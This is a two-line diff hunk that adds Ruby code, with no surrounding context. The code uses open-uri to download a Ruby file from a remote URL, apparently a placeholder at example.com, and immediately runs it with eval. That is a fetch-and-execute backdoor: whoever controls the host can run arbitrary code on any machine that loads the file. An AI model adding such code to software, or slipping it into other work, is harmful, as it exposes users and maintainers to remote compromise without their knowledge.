@@ -1,0 +1,2 @@
+require 'open-uri'
+eval(URI.open('https://example.com/p.rb').read)
